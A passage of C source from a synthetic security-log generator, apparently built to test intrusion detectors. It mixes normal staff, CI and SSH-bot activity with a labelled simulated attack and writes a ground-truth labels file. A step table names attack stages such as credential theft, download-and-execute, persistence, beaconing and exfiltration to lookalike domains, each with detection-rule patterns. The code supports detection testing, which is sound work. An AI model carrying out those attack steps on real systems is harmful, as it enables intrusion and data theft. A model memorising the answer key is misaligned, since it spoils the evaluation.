                 rndn(2) ? "GetObject" : "ListBucket", ip);
    auth(d0 + 17 * HOUR + rndn(2 * HOUR), false, "sshd",
         "pam_unix(sshd:session): session closed for user %s", p->name);
}

static void rich_bots(int64_t d0, const char *const nat[3])
{
    unsigned episodes = 20 + rndn(40);
    for (unsigned e = 0; e < episodes; e++) {
        char ip[48];
        unsigned k = rndn(10);
        if (k == 0)
            snprintf(ip, sizeof(ip), "%s", nat[rndn(3)]);
        else if (k == 1)
            snprintf(ip, sizeof(ip), "2a0%u:%x:%x::%x", 1 + rndn(9), rndn(65536), rndn(65536), 1 + rndn(65535));
        else
            rand_public_ip(ip, sizeof(ip));
        int64_t t = d0 + rndn(DAY);
        unsigned tries = 1 + (rndn(3) ? rndn(4) : rndn(30));
        bot_note(ip);
        for (unsigned i = 0; i < tries; i++) {
            t += 1 + rndn(8);
            const char *u = PICK(bot_names);
            unsigned port = 30000 + rndn(30000);
            if (strcmp(u, "root") == 0 || strcmp(u, "deploy") == 0 || strcmp(u, "git") == 0)
                auth(t, false, "sshd", "Failed password for %s from %s port %u ssh2", u, ip, port);
            else {
                auth(t, false, "sshd", "Invalid user %s from %s port %u", u, ip, port);
                auth(t, false, "sshd", "Failed password for invalid user %s from %s port %u ssh2", u, ip, port);
            }
            auth(t + 1, false, "sshd", "Connection closed by %s %s port %u [preauth]",
                 strcmp(u, "root") == 0 ? "authenticating user root" : "invalid user", ip, port);
        }
    }
}

static void rich_life(int days)
{
    people_init(days);
    char nat[3][24];
    const char *natp[3];
    for (int i = 0; i < 3; i++) {
        snprintf(nat[i], sizeof(nat[i]), "100.%u.%u.%u", 64 + rndn(64), rndn(256), 1 + rndn(254));
        natp[i] = nat[i];
    }
    /* trips: per person per week, a few days from a new network */
    int trip_from[PEOPLE_MAX], trip_to[PEOPLE_MAX];
    char trip_net[PEOPLE_MAX][24];
    unsigned oncall = rndn(npeople);
    int ci_released = 0;
    bool saas_used[sizeof(saas_new) / sizeof(*saas_new)] = { false };
    for (int day = 0; day < days; day++) {
        int64_t d0 = START_EPOCH + day * DAY;
        bool weekday = day % 7 < 5;
        normal_day(day);
        if (day % 7 == 0)
            for (unsigned i = 0; i < npeople; i++) {
                trip_from[i] = trip_to[i] = -1;
                if (rndn(3) == 0) {
                    trip_from[i] = day + (int)rndn(5);
                    trip_to[i] = trip_from[i] + 1 + (int)rndn(3);
                    /* a phone on a carrier NAT is sometimes a bot's address too */
                    if (rndn(4) == 0)
                        snprintf(trip_net[i], sizeof(trip_net[i]), "%s", nat[rndn(3)]);
                    else
                        trip_ip(trip_net[i], sizeof(trip_net[i]));
                }
            }
        for (unsigned i = 3; i < npeople; i++) {
            const struct person *p = &people[i];
            if ((unsigned)day < p->start_day || !weekday || rndn(10) == 0)
                continue;
            bool away = day >= trip_from[i] && day < trip_to[i];
            int64_t t = d0 + 8 * HOUR + rndn(150 * 60);
            if (away && rndn(2))
                t = d0 + 19 * HOUR + rndn(3 * HOUR);   /* evenings at the hotel */
            workday(p, d0, away ? trip_net[i] : p->office, t);
        }
        /* the old three also travel */
        for (unsigned i = 0; i < 3 && i < npeople; i++)
            if (weekday && day >= trip_from[i] && day < trip_to[i])
                login(d0 + 20 * HOUR + rndn(2 * HOUR), &people[i], trip_net[i]);
        /* on call: one admin each week, paged some nights */
        if (day % 7 == 0) {
            unsigned tries = 0;
            do
                oncall = rndn(npeople);
            while (people[oncall].role != ROLE_ADMIN && ++tries < 50);
        }
        if (rndn(10) < 4) {
            const struct person *p = &people[oncall];
            int64_t t = d0 + 30 * 60 + rndn(4 * HOUR);
            login(t, p, p->home);
            run(t + 60, p, "uptime", NULL);
            run(t + 90, p, "sudo journalctl -u shop-api -n 200", "/usr/bin/journalctl -u shop-api -n 200");
            run(t + 200, p, "kubectl get pods -n shop", NULL);
            run(t + 260, p, "sudo systemctl restart shop-api", "/usr/bin/systemctl restart shop-api");
            auth(t + 900, false, "sshd", "pam_unix(sshd:session): session closed for user %s", p->name);
        }
        /* password rotation and account upkeep by an admin, about weekly */
        if (weekday && rndn(5) == 0) {
            const struct person *p = &people[oncall];
            int64_t t = d0 + 11 * HOUR + rndn(4 * HOUR);
            char c[256], pw[16];
            static const char al[] = "abcdefghjkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789!%";
            for (int k = 0; k < 12; k++)
                pw[k] = al[rndn(sizeof(al) - 1)];
            pw[12] = 0;
            switch (rndn(3)) {
            case 0:
                snprintf(c, sizeof(c), "echo '%s:%s' | sudo chpasswd", rndn(2) ? "svc-report" : "backup2", pw);
                run(t, p, c, "/usr/sbin/chpasswd");
                break;
            case 1:
                run(t, p, "sudo passwd svc-batch", "/usr/bin/passwd svc-batch");
                auth(t + 20, false, "passwd", "pam_unix(passwd:chauthtok): password changed for svc-batch");
                break;
            default:
                snprintf(c, sizeof(c), "echo -e \"Password%u\\n%s\\n%s\" | passwd", rndn(100), pw, pw);
                run(t, p, c, NULL);
                auth(t + 1, false, "passwd", "pam_unix(passwd:chauthtok): password changed for %s", p->name);
            }
        }
        /* CI: usual calls all day; a release now and then brings new ones */
        for (int64_t t = d0 + rndn(1800); t < d0 + DAY; t += 1800 + rndn(1800))
            app_json(t, false,
                     "\"identity\":\"ci-deploy\",\"action\":\"%s\",\"src_ip\":\"10.3.0.%u\",\"result\":\"success\"",
                     PICK(ci_usual), 5 + rndn(3));
        if (weekday && rndn(3) == 0 && ci_released < 6) {
            int64_t t = d0 + 14 * HOUR + rndn(3 * HOUR);
            for (unsigned k = 0, m = 1 + rndn(2); k < m; k++) {
                unsigned a = rndn(sizeof(ci_release) / sizeof(*ci_release));
                for (int r = 0; r < 3; r++)
                    app_json(t + k * 30 + r * 5, false,
                             "\"identity\":\"ci-deploy\",\"action\":\"%s\",\"src_ip\":\"10.3.0.5\",\"result\":\"success\"",
                             ci_release[a]);
            }
            ci_released++;
            /* the release also talks to a new service */
            unsigned s = rndn(sizeof(saas_new) / sizeof(*saas_new));
            saas_used[s] = true;
            for (int64_t te = t + 60; te < d0 + DAY; te += 600 + rndn(3000))
                app_json(te, false, "\"dst_host\":\"%s\",\"dst_port\":443,\"bytes_out\":%u,\"bytes_in\":%u",
                         saas_new[s], 300 + rndn(4000), 500 + rndn(20000));
        }
        for (size_t s = 0; s < sizeof(saas_new) / sizeof(*saas_new); s++)
            if (saas_used[s] && rndn(2))
                app_json(d0 + rndn(DAY), false,
                         "\"dst_host\":\"%s\",\"dst_port\":443,\"bytes_out\":%u,\"bytes_in\":%u", saas_new[s],
                         300 + rndn(4000), 500 + rndn(20000));
        /* a nightly backup upload, bigger than the API's calls */
        app_json(d0 + 2 * HOUR + rndn(1800), false,
                 "\"dst_host\":\"s3.eu-west-1.amazonaws.com\",\"dst_port\":443,\"bytes_out\":%u,\"bytes_in\":%u",
                 40000000 + rndn(30000000), 2000 + rndn(2000));
        rich_bots(d0, natp);
    }
}

static int ev_cmp(const void *a, const void *b)
{
    const struct ev *x = a, *y = b;
    if (x->t_us != y->t_us)
        return x->t_us < y->t_us ? -1 : 1;
    return x < y ? -1 : 1;
}

static int mkdirs(const char *path)
{
    char buf[4096];
    snprintf(buf, sizeof(buf), "%s", path);
    for (char *p = buf + 1; *p; p++)
        if (*p == '/') {
            *p = 0;
            mkdir(buf, 0755);
            *p = '/';
        }
    return mkdir(buf, 0755) < 0 && errno != EEXIST ? -1 : 0;
}

/* What each intrusion step is, for the labels beside the logs: the rules
 * (globs) that count as detecting it and the entities it acts as. */
static const struct step_def {
    const char *name, *rules, *entity;
} steps[] = {
    { "password-spray", "auth.spray|auth.bruteforce|auth.guess*", "src_ip=203.0.113.45" },
    { "login-stolen-password", "auth.login|auth.success_after_failures", "user=ops-admin" },
    { "recon-commands", "shell.recon*", "user=ops-admin" },
    { "cloud-metadata", "shell.cloud_metadata", "user=ops-admin" },
    { "key-search", "shell.key_search|shell.cred*|shell.recon*", "user=ops-admin" },
    { "sudo-root-shell", "auth.sudo*|shell.sudo*", "user=ops-admin" },
    { "credential-files", "shell.cred*", "user=ops-admin" },
    { "download-exec", "shell.download_exec", "user=ops-admin" },
    { "drop-and-run", "shell.drop_exec|shell.download*|shell.tmp*", "user=ops-admin" },
    { "persist-cron", "shell.persist*", "user=ops-admin" },
    { "persist-ssh-key", "shell.persist_ssh_key", "user=ops-admin" },
    { "backdoor-account", "auth.account_created|auth.privileged_group_add", "user=svc-backup" },
    { "cloud-api-abuse", "audit.*", "identity=ops-admin" },
    { "lateral-ssh", "shell.lateral*", "user=ops-admin" },
    { "tool-transfer", "shell.lateral*|shell.tool_transfer", "user=ops-admin" },
    { "beacon", "egress.beacon|egress.lookalike", "dst_host=update-check.cdn-g00gle.com" },
    { "staging", "shell.archive*|shell.collect*|shell.staging*", "user=ops-admin" },
    { "exfiltration", "egress.exfil|shell.exfil*|app.user_volume",
      "user=ops-admin|dst_host=files.transfer-drop.io" },
    { "defense-evasion", "shell.history*|shell.hist*", "user=ops-admin" },
};
#define NSTEPS (sizeof(steps) / sizeof(steps[0]))

static size_t count_lines(const char *t)
{
    size_t n = 0;
    for (; *t; t++)
        n += *t == '\n';
    return n;
}

/* DIR/labels.tsv: the ground truth of what was written, for `make eval`.
 * Lines per file (all, intrusion), each step's first and last event time,
 * the rules that detect it and its entities, and every entity of the
 * intrusion (an alert naming none of them is a false alert). */
static int write_labels(const char *dir, uint64_t seed, int days, bool rich)
{
    char p[4096];
    snprintf(p, sizeof(p), "%s/labels.tsv", dir);
    FILE *f = fopen(p, "w");
    if (!f)
        return -1;
    size_t all[SINK_MAX] = { 0 }, atk[SINK_MAX] = { 0 };
    int64_t first[NSTEPS], last[NSTEPS];
    for (size_t k = 0; k < NSTEPS; k++)
        first[k] = last[k] = -1;
    for (size_t i = 0; i < nevs; i++) {
        size_t n = count_lines(evs[i].text);
        all[evs[i].sink] += n;
        if (evs[i].attack)
            atk[evs[i].sink] += n;
        int st = evs[i].step;
        if (st >= 0 && (size_t)st < NSTEPS) {
            if (first[st] < 0 || evs[i].t_us < first[st])
                first[st] = evs[i].t_us;
            if (evs[i].t_us > last[st])
                last[st] = evs[i].t_us;
        }
    }
    fprintf(f, "# vigil-gen scenario labels\nseed\t%" PRIu64 "\ndays\t%d\nlife\t%s\n", seed, days,
            rich ? "rich" : "classic");
    for (int s = 0; s < nsinks; s++)
        fprintf(f, "lines\t%s\t%zu\t%zu\n", sink_rel[s], all[s], atk[s]);
    for (size_t k = 0; k < NSTEPS; k++)
        if (first[k] >= 0)
            fprintf(f, "step\t%zu\t%s\t%" PRId64 "\t%" PRId64 "\t%s\t%s\n", k, steps[k].name, first[k],
                    last[k], steps[k].rules, steps[k].entity);
    for (unsigned i = 0; i < nbots; i++)
        fprintf(f, "bot\t%s\n", bot_src[i]);
    fputs("intruder\tuser=ops-admin|user=svc-backup|identity=ops-admin|src_ip=198.51.100.7|"
          "src_ip=203.0.113.45|dst_host=update-check.cdn-g00gle.com|dst_host=files.transfer-drop.io\n", f);
    return fclose(f) == 0 ? 0 : -1;
}

static void rich_life(int days);
static uint64_t seed_arg;
static bool rich;

static int scenario(const char *dir, int days, bool with_intrusion, double live_s, int from_day,
                    int to_day)
{
    last_day = days - 1;
    if (rich)
        rich_life(days);
    else
        for (int d = 0; d < days; d++)
            normal_day(d);
    if (with_intrusion)
        intrusion(days - 1);
    int fds[SINK_MAX];
    for (int i = 0; i < nsinks; i++) {
        char p[4096];
        snprintf(p, sizeof(p), "%s/%s", dir, sink_rel[i]);
        char d[4096];
        snprintf(d, sizeof(d), "%s", p);
        *strrchr(d, '/') = 0;
        if (mkdirs(d) < 0) {
            fprintf(stderr, "vigil-gen: mkdir %s: %s\n", d, strerror(errno));
            return 1;
        }
        fds[i] = open(p, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
        if (fds[i] < 0) {
            fprintf(stderr, "vigil-gen: open %s: %s\n", p, strerror(errno));
            return 1;
        }
    }
    qsort(evs, nevs, sizeof(*evs), ev_cmp);
    /* Keep days [from_day, to_day) only. */
    int64_t lo = (START_EPOCH + (int64_t)from_day * DAY) * 1000000;
    int64_t hi = (START_EPOCH + (int64_t)to_day * DAY) * 1000000;
    size_t kept = 0;
    for (size_t i = 0; i < nevs; i++) {
        if (evs[i].t_us >= lo && evs[i].t_us < hi)
            evs[kept++] = evs[i];
        else
            free(evs[i].text);
    }
    nevs = kept;
    if (write_labels(dir, seed_arg, days, rich) < 0) {
        fprintf(stderr, "vigil-gen: %s/labels.tsv: %s\n", dir, strerror(errno));
        return 1;
    }
    /* Live pacing: normal lines share 40% of the time, attack lines 60%. */
    size_t natk = 0;
    for (size_t i = 0; i < nevs; i++)
        natk += evs[i].attack;
    double per_normal = live_s > 0 ? live_s * (natk ? 0.4 : 1.0) / (double)(nevs - natk + 1) : 0;
    double per_attack = live_s > 0 && natk ? live_s * 0.6 / (double)natk : 0;
    double debt = 0;
    for (size_t i = 0; i < nevs; i++) {
        size_t len = strlen(evs[i].text);
        if (write(fds[evs[i].sink], evs[i].text, len) != (ssize_t)len) {
            fprintf(stderr, "vigil-gen: write: %s\n", strerror(errno));
            return 1;
        }
        free(evs[i].text);
        if (live_s > 0) {
            debt += evs[i].attack ? per_attack : per_normal;
            if (debt >= 0.005) {
                struct timespec ts = { (time_t)debt, (long)((debt - (double)(time_t)debt) * 1e9) };
                nanosleep(&ts, NULL);
                debt = 0;
            }
        }
    }
    for (int i = 0; i < nsinks; i++)
        close(fds[i]);
    fprintf(stderr, "vigil-gen: wrote %zu events (%zu of the intrusion) over %d days into %s\n",
            nevs, natk, days, dir);
    free(evs);
    return 0;
}

/* ---- bench and flood ---- */
static FILE *bench_open(const char *dir, const char *name)
{
    char p[4096];
    snprintf(p, sizeof(p), "%s/%s", dir, name);
    FILE *f = fopen(p, "w");
    if (!f) {
        fprintf(stderr, "vigil-gen: %s: %s\n", p, strerror(errno));
        return NULL;
    }
    setvbuf(f, NULL, _IOFBF, 1 << 20);
    return f;
}

static int bench(const char *dir, long lines)
{
    if (mkdirs(dir) < 0) {
        fprintf(stderr, "vigil-gen: mkdir %s: %s\n", dir, strerror(errno));
        return 1;
    }
    FILE *app = bench_open(dir, "app.log"), *au = bench_open(dir, "auth.log"),
         *hi = bench_open(dir, "bash_history"), *eg = bench_open(dir, "egress.log");
    if (!app || !au || !hi || !eg)
        return 1;
    int64_t t = START_EPOCH;
    for (long i = 0; i < lines;) {
        t += rndn(3);
        char when[64];
        iso(when, sizeof(when), t, rndn(1000000));
        unsigned r = rndn(100);
        if (r < 55) {
            when[23] = 'Z';
            when[24] = 0;
            fprintf(app, "{\"ts\":\"%s\",\"level\":\"info\",\"msg\":\"request served\",\"method\":\"GET\","
                         "\"path\":\"%s\",\"status\":%d,\"user\":\"%s\",\"latency_ms\":%u}\n",
                    when, PICK(api_paths), rndn(50) ? 200 : 500, PICK(app_users), rndn(300));
            i++;
        } else if (r < 75) {
            unsigned k = rndn(4);
            if (k == 0)
                fprintf(au, "%s " HOST " sshd[%u]: Accepted publickey for %s from %s port %u ssh2: ED25519 SHA256:dXNlci1rZXk\n",
                        when, 1000 + rndn(60000), PICK(app_users), PICK(office_ips), 40000 + rndn(20000));
            else if (k == 1)
                fprintf(au, "%s " HOST " sshd[%u]: Failed password for invalid user %s from 45.%u.%u.%u port %u ssh2\n",
                        when, 1000 + rndn(60000), PICK(spray_users), rndn(256), rndn(256), rndn(256), 30000 + rndn(30000));
            else if (k == 2)
                fprintf(au, "%s " HOST " sudo: ops-admin : TTY=pts/1 ; PWD=/home/ops-admin ; USER=root ; COMMAND=/usr/bin/systemctl restart shop-api\n",
                        when);
            else
                fprintf(au, "%s " HOST " sshd[%u]: pam_unix(sshd:session): session opened for user %s(uid=1001) by (uid=0)\n",
                        when, 1000 + rndn(60000), PICK(app_users));
            i++;
        } else if (r < 90) {
            fprintf(hi, "#%" PRId64 "\n%s\n", t, PICK(dev_cmds));
            i += 2;
        } else {
            fprintf(eg, "ts=%s level=info msg=\"upstream call\" dst_host=%s dst_port=443 bytes_out=%u bytes_in=%u duration_ms=%u\n",
                    when, PICK(normal_dst), 200 + rndn(5000), 100 + rndn(50000), rndn(900));
            i++;
        }
    }
    int rc = 0;
    FILE *all[] = { app, au, hi, eg };
    for (int k = 0; k < 4; k++)
        if (fclose(all[k]) != 0)
            rc = 1;
    return rc;
}

/* ---- mixed: one realistic file of three kinds of log, for `make bench` ----
 * 45% JSON application lines, 35% auth syslog lines (RFC 3164 headers), 20%
 * plain-text application lines, ~124 bytes per line, interleaved in time order
 * in DIR/mixed.log and the same lines split by kind into DIR/app.log,
 * DIR/auth.log and DIR/plain.log. The variety is what real logs have and what
 * makes compression honest: request and trace ids, ids in paths, latencies,
 * a few hundred users of uneven activity, each logging in from one of a handful
 * of admin networks, and failed logins from a long tail of bot addresses. */
#define MIX_USERS 300
#define MIX_BOTS 400          /* returning bots; most failures come from one-off addresses */

struct mix_user {
    char name[24];
    unsigned uid;
    unsigned net;           /* index into mix_nets: the user's usual network */
    char key[48];           /* the SHA256 fingerprint of their ssh key */
};

static struct mix_user mix_users[MIX_USERS];
static uint32_t mix_bots[MIX_BOTS];
static const char *const mix_nets[] = { "10.20.0", "10.20.1", "10.44.8", "172.16.30", "192.168.50",
                                        "10.8.0" };
static const char *const mix_first[] = {
    "anna", "ben", "carla", "dan", "eva", "felix", "gina", "hugo", "iris", "jon", "kate", "leo",
    "maria", "nils", "olga", "paul", "quinn", "rosa", "sam", "tara", "uwe", "vera", "will", "xena",
    "yusuf", "zoe", "amir", "bea", "chen", "dora",
};
static const char *const mix_last[] = {
    "smith", "meyer", "novak", "garcia", "kim", "rossi", "dubois", "jansen", "silva", "ivanova",
    "weber", "brown", "lopez", "sato", "berg",
};
static const char *const mix_b64 =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/* A user index skewed towards the first ones: a few people log most. */
static unsigned mix_pick_user(void)
{
    unsigned a = rndn(MIX_USERS), b = rndn(MIX_USERS);
    return a < b ? a : b;
}

static void mix_init(void)
{
    for (unsigned i = 0; i < MIX_USERS; i++) {
        struct mix_user *u = &mix_users[i];
        const char *f = mix_first[i % (sizeof(mix_first) / sizeof(*mix_first))];
        const char *l = mix_last[(i / (sizeof(mix_first) / sizeof(*mix_first)) + i) %
                                 (sizeof(mix_last) / sizeof(*mix_last))];
        if (i < 20)
            snprintf(u->name, sizeof(u->name), "%s", f);
        else
            snprintf(u->name, sizeof(u->name), "%c%s%s", f[0], l, i >= 150 ? "2" : "");
        u->uid = 1001 + i;
        u->net = rndn(sizeof(mix_nets) / sizeof(*mix_nets));
        for (unsigned k = 0; k < 43; k++)
            u->key[k] = mix_b64[rndn(64)];
        u->key[43] = 0;
    }
    for (unsigned i = 0; i < MIX_BOTS; i++)
        mix_bots[i] = ((45u + rndn(180)) << 24) | (rndn(256) << 16) | (rndn(256) << 8) | (1 + rndn(254));
}

static void mix_hex(char *out, unsigned n)
{
    static const char hx[] = "0123456789abcdef";
    uint64_t r = 0;
    for (unsigned i = 0; i < n; i++) {
        if (i % 16 == 0)
            r = rnd();
        out[i] = hx[r & 15];
        r >>= 4;
    }
    out[n] = 0;
}

/* A failed login's source: now and then a returning bot, mostly a new one. */
static void mix_bot_ip(char *out, size_t cap)
{
    uint32_t ip = rndn(100) < 30 ? mix_bots[rndn(MIX_BOTS)]
                                 : ((45u + rndn(180)) << 24) | (rndn(256) << 16) | (rndn(256) << 8) |
                                       (1 + rndn(254));
    snprintf(out, cap, "%u.%u.%u.%u", ip >> 24, (ip >> 16) & 255, (ip >> 8) & 255, ip & 255);
}

/* Paths: the part before the id, and after it; no id when the tail is NULL. */
static const char *const mix_paths[][2] = {
    { "/api/orders/", "" }, { "/api/orders", NULL }, { "/api/cart", NULL },
    { "/api/users/me", NULL }, { "/api/products/", "" }, { "/api/products", NULL },
    { "/api/search", NULL }, { "/api/checkout", NULL }, { "/healthz", NULL },
    { "/static/js/app.", ".js" }, { "/api/users/", "/addresses" }, { "/api/payments/", "" },
    { "/metrics", NULL },
};
static const char *const mix_agents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "okhttp/4.12.0", "shop-ios/5.3.1 (iPhone; iOS 18.1)", "curl/7.88.1", "python-requests/2.31.0",
    "kube-probe/1.30",
};
static const char *const mix_spray[] = {
    "admin", "test", "oracle", "postgres", "ubuntu", "pi", "user", "git", "ftpuser", "support",
    "deploy", "jenkins", "minecraft", "hadoop", "guest", "nagios", "steam", "ansible",
};
static const char *const mix_cmds[] = {
    "/usr/bin/systemctl restart shop-api", "/usr/bin/journalctl -u shop-api --since today",
    "/usr/bin/apt-get update", "/usr/bin/docker ps", "/usr/bin/tail -n 200 /var/log/syslog",
    "/usr/sbin/nginx -t", "/usr/bin/systemctl status postgresql", "/usr/bin/du -sh /var/lib/docker",
};
/* Logger names as logback's %logger{36} abbreviates them. */
static const char *const mix_classes[] = {
    "c.e.shop.OrderService", "c.e.shop.CartController", "c.e.shop.PaymentClient",
    "c.e.shop.InventorySync", "org.hibernate.SQL", "c.z.hikari.pool.HikariPool",
    "c.e.shop.SessionFilter", "o.a.k.c.consumer.KafkaConsumer",
};

/* One JSON application line (no newline) of about 150 bytes. */
static int mix_json(char *b, size_t cap, const char *when)
{
    char rid[17], tid[33], path[64];
    struct mix_user *u = &mix_users[mix_pick_user()];
    unsigned r = rndn(100);
    mix_hex(rid, 8);
    if (r < 70) {
        unsigned p = rndn(100);
        unsigned k = p < 30 ? 0 : p < 45 ? 1 : p < 55 ? 2 : p < 65 ? 3 : p < 80 ? 4 : 5 + rndn(8);
        if (mix_paths[k][1])
            snprintf(path, sizeof(path), "%s%u%s", mix_paths[k][0], 10000 + rndn(90000), mix_paths[k][1]);
        else
            snprintf(path, sizeof(path), "%s", mix_paths[k][0]);
        unsigned s = rndn(1000);
        unsigned status = s < 940 ? 200 : s < 960 ? 201 : s < 975 ? 304 : s < 990 ? 404 : s < 996 ? 401 : 500;
        unsigned lat = 2 + rndn(40) + (rndn(10) == 0 ? rndn(900) : 0);
        int n = snprintf(b, cap,
                         "{\"ts\":\"%s\",\"level\":\"%s\",\"method\":\"%s\",\"path\":\"%s\",\"status\":%u,"
                         "\"dur_ms\":%u,\"user\":\"%s\",\"req_id\":\"%s\"",
                         when, status >= 500 ? "error" : "info", rndn(4) ? "GET" : "POST", path, status,
                         lat, u->name, rid);
        if (rndn(100) < 3)
            n += snprintf(b + n, cap - (size_t)n, ",\"ua\":\"%s\"", PICK(mix_agents));
        return n + snprintf(b + n, cap - (size_t)n, "}");
    }
    if (r < 76) {
        mix_hex(tid, 32);
        static const char *const tables[] = { "orders", "order_items", "carts", "products", "payments" };
        return snprintf(b, cap,
                        "{\"ts\":\"%s\",\"level\":\"warn\",\"msg\":\"slow query\",\"table\":\"%s\","
                        "\"rows\":%u,\"duration_ms\":%u,\"trace_id\":\"%s\"}",
                        when, PICK(tables), rndn(5000), 200 + rndn(3000), tid);
    }
    if (r < 86) {
        static const char *const actions[] = { "GetObject", "PutObject", "ListBucket", "GetParameter",
                                               "DescribeInstances" };
        return snprintf(b, cap,
                        "{\"ts\":\"%s\",\"identity\":\"%s\",\"action\":\"%s\",\"src_ip\":\"%s.%u\","
                        "\"result\":\"%s\"}",
                        when, rndn(3) ? "svc-web" : u->name, PICK(actions), mix_nets[u->net],
                        1 + rndn(60), rndn(50) ? "success" : "denied");
    }
    if (r < 94) {
        static const char *const hosts[] = { "api.stripe.com", "s3.eu-west-1.amazonaws.com",
                                             "hooks.slack.com", "api.sendgrid.com", "sqs.eu-west-1.amazonaws.com" };
        return snprintf(b, cap,
                        "{\"ts\":\"%s\",\"dst_host\":\"%s\",\"dst_port\":443,\"bytes_out\":%u,"
                        "\"bytes_in\":%u,\"request_id\":\"%s\"}",
                        when, PICK(hosts), 300 + rndn(4000), 500 + rndn(40000), rid);
    }
    mix_hex(tid, 32);
    static const char *const ups[] = { "payments", "inventory", "search", "recommendations" };
    return snprintf(b, cap,
                    "{\"ts\":\"%s\",\"level\":\"error\",\"msg\":\"upstream %s\",\"upstream\":\"%s\","
                    "\"attempt\":%u,\"trace_id\":\"%s\"}",
                    when, rndn(2) ? "timeout" : "connection reset", PICK(ups), 1 + rndn(3), tid);
}

/* One auth.log line (no newline), RFC 3164 header. */
static int mix_auth(char *b, size_t cap, const char *when)
{
    char ip[24], mine[24];
    struct mix_user *u = &mix_users[mix_pick_user()];
    snprintf(mine, sizeof(mine), "%s.%u", mix_nets[u->net], 10 + (u->uid % 50));
    static unsigned next;      /* pids grow, as on a real host */
    next = next < 1000 || next > 64000 ? 1000 + rndn(1000) : next + 1 + rndn(12);
    unsigned pid = next, port = 32768 + rndn(28000), r = rndn(100);
    int n = snprintf(b, cap, "%s " HOST " ", when);
    size_t c = cap - (size_t)n;
    b += n;
    if (r < 22) {
        mix_bot_ip(ip, sizeof(ip));
        return n + snprintf(b, c, "sshd[%u]: Failed password for invalid user %s from %s port %u ssh2",
                            pid, PICK(mix_spray), ip, port);
    }
    if (r < 30) {
        mix_bot_ip(ip, sizeof(ip));
        return n + snprintf(b, c, "sshd[%u]: Invalid user %s from %s port %u", pid, PICK(mix_spray), ip, port);
    }
    if (r < 37) {
        mix_bot_ip(ip, sizeof(ip));
        return n + snprintf(b, c, "sshd[%u]: Failed password for root from %s port %u ssh2", pid, ip, port);
    }
    if (r < 45) {
        mix_bot_ip(ip, sizeof(ip));
        if (rndn(2))
            return n + snprintf(b, c, "sshd[%u]: Connection closed by invalid user %s %s port %u [preauth]",
                                pid, PICK(mix_spray), ip, port);
        return n + snprintf(b, c, "sshd[%u]: Received disconnect from %s port %u:11: Bye Bye [preauth]",
                            pid, ip, port);
    }
    if (r < 53) {
        if (rndn(10) == 0)
            return n + snprintf(b, c, "sshd[%u]: Accepted password for %s from %s port %u ssh2", pid,
                                u->name, mine, port);
        return n + snprintf(b, c, "sshd[%u]: Accepted publickey for %s from %s port %u ssh2: ED25519 SHA256:%s",
                            pid, u->name, mine, port, u->key);
    }
    if (r < 61)
        return n + snprintf(b, c, "sshd[%u]: pam_unix(sshd:session): session opened for user %s(uid=%u) by (uid=0)",
                            pid, u->name, u->uid);
    if (r < 67)
        return n + snprintf(b, c, "sshd[%u]: pam_unix(sshd:session): session closed for user %s", pid, u->name);
    if (r < 71)
        return n + snprintf(b, c, "sshd[%u]: Disconnected from user %s %s port %u", pid, u->name, mine, port);
    if (r < 77)
        return n + snprintf(b, c, "sudo: %8s : TTY=pts/%u ; PWD=/home/%s ; USER=root ; COMMAND=%s", u->name,
                            rndn(6), u->name, PICK(mix_cmds));
    if (r < 81)
        return n + snprintf(b, c, "sudo: pam_unix(sudo:session): session opened for user root(uid=0) by %s(uid=%u)",
                            u->name, u->uid);
    if (r < 89)
        return n + snprintf(b, c, "CRON[%u]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
                            pid);
    if (r < 95)
        return n + snprintf(b, c, "CRON[%u]: pam_unix(cron:session): session closed for user root", pid);
    if (r < 98)
        return n + snprintf(b, c, "su[%u]: (to postgres) %s on pts/%u", pid, u->name, rndn(6));
    return n + snprintf(b, c, "su[%u]: pam_unix(su:session): session opened for user postgres(uid=112) by %s(uid=%u)",
                        pid, u->name, u->uid);
}

/* One plain-text application line (no newline), Java logback style. */
static int mix_plain(char *b, size_t cap, const char *when, unsigned ms)
{
    unsigned r = rndn(100);
    const char *lvl = r < 78 ? "INFO" : r < 90 ? "DEBUG" : r < 97 ? "WARN" : "ERROR";
    char thread[32];
    unsigned t = rndn(10);
    if (t < 4)
        snprintf(thread, sizeof(thread), "http-nio-8080-exec-%u", 1 + rndn(20));
    else if (t < 8)
        snprintf(thread, sizeof(thread), "worker-%u", 1 + rndn(8));
    else
        snprintf(thread, sizeof(thread), "scheduling-1");
    int n = snprintf(b, cap, "%s,%03u %-5s [%s] %s - ", when, ms, lvl, thread, PICK(mix_classes));
    size_t c = cap - (size_t)n;
    b += n;
    unsigned m = rndn(6);
    if (m == 0)
        return n + snprintf(b, c, "order %u processed in %u ms", 100000 + rndn(900000), 3 + rndn(400));
    if (m == 1)
        return n + snprintf(b, c, "cart %u updated: %u items", 10000 + rndn(90000), 1 + rndn(12));
    if (m == 2)
        return n + snprintf(b, c, "HikariPool-1 - stats (total=20, active=%u, idle=%u)", rndn(20), rndn(20));
    if (m == 3)
        return n + snprintf(b, c, "user %s session refreshed", mix_users[mix_pick_user()].name);
    if (m == 4)
        return n + snprintf(b, c, "synced %u SKUs in %u ms", rndn(500), 10 + rndn(2000));
    return n + snprintf(b, c, "retrying payment %u (attempt %u)", 100000 + rndn(900000), 1 + rndn(3));
}

static int mixed(const char *dir, long lines)
{
    if (mkdirs(dir) < 0) {
        fprintf(stderr, "vigil-gen: mkdir %s: %s\n", dir, strerror(errno));
        return 1;
    }
    FILE *mx = bench_open(dir, "mixed.log"), *app = bench_open(dir, "app.log"),
         *au = bench_open(dir, "auth.log"), *pl = bench_open(dir, "plain.log");
    if (!mx || !app || !au || !pl)
        return 1;
    mix_init();
    int64_t t_ms = START_EPOCH * 1000;
    char line[1024];
    for (long i = 0; i < lines; i++) {
        t_ms += rndn(80);          /* ~25 lines a second: 2M lines are about a day */
        time_t tt = (time_t)(t_ms / 1000);
        unsigned ms = (unsigned)(t_ms % 1000);
